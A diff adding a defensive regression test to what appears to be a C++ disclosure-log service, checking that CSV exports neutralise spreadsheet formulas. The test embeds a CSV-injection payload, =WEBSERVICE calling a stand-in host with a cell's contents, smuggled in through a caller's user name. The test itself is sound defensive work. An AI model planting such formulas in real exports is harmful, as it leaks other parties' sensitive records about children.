@@ -21,6 +21,8 @@
 #include "absl/strings/match.h"
 #include "absl/strings/str_cat.h"
 #include "absl/strings/str_replace.h"
+#include "absl/strings/str_split.h"
+#include "absl/strings/strip.h"
 #include "common/tlog.h"
 #include "common/tlog_proof.h"
 #include "tests/integration/tlog_receipts_fixture.h"
@@ -415,6 +417,40 @@ TEST_F(HostileReview6VerifyTest, AJsonlLineStatesEachKeyOnce) {
     EXPECT_EQ(run.code, 1) << name << "\n" << run.out;
     EXPECT_TRUE(Has(run.out, "is not JSON")) << run.out;  // Repeated key.
   }
+}
+
+// An auditor opens a csv export in a spreadsheet. LEAK: a field was
+// written as it was, so a caller whose user name (any printable text in its
+// certificate or metadata) starts with "=" put a formula in the auditor's
+// sheet, which can send the sheet's cells (other organisations' disclosures
+// about the child) to an address of the caller's choosing. A field that
+// starts with = + - @ or a tab or carriage return is written after a "'"
+// (the spreadsheet convention for text), and the export still verifies.
+TEST_F(HostileReview6VerifyTest, ACsvFieldIsNeverAFormula) {
+  ASSERT_NO_FATAL_FAILURE(MakeHistory());
+  const std::string formula = "=WEBSERVICE(\"http://example.invalid/\"&A1)";
+  v1::RecordDisclosureRequest disclose;
+  disclose.set_request_id(NewUuid());
+  *disclose.mutable_disclosure() =
+      Disclosure("s-1", kSchool, kService, v1::PURPOSE_REFERRAL,
+                 {v1::DATA_CATEGORY_IDENTITY}, "c-1");
+  grpc::ClientContext context;
+  AsCaller(&context, kSchool, formula);
+  v1::CommandResponse done;
+  ASSERT_TRUE(Ok(sharing_->RecordDisclosure(&context, disclose, &done)));
+  const std::string text = Verified("csv");
+  int rows = 0;
+  for (absl::string_view line : absl::StrSplit(text, "\r\n")) {
+    for (absl::string_view field : absl::StrSplit(line, ',')) {
+      absl::ConsumePrefix(&field, "\"");
+      EXPECT_TRUE(field.empty() ||
+                  absl::string_view("=+-@\t\r").find(field[0]) ==
+                      absl::string_view::npos)
+          << line;
+    }
+    rows += absl::StrContains(line, "'=WEBSERVICE(") ? 1 : 0;
+  }
+  EXPECT_EQ(rows, 1) << text;
 }
 
 // KNOWN LEAK (not fixed): an export's consent-in-force columns (csv
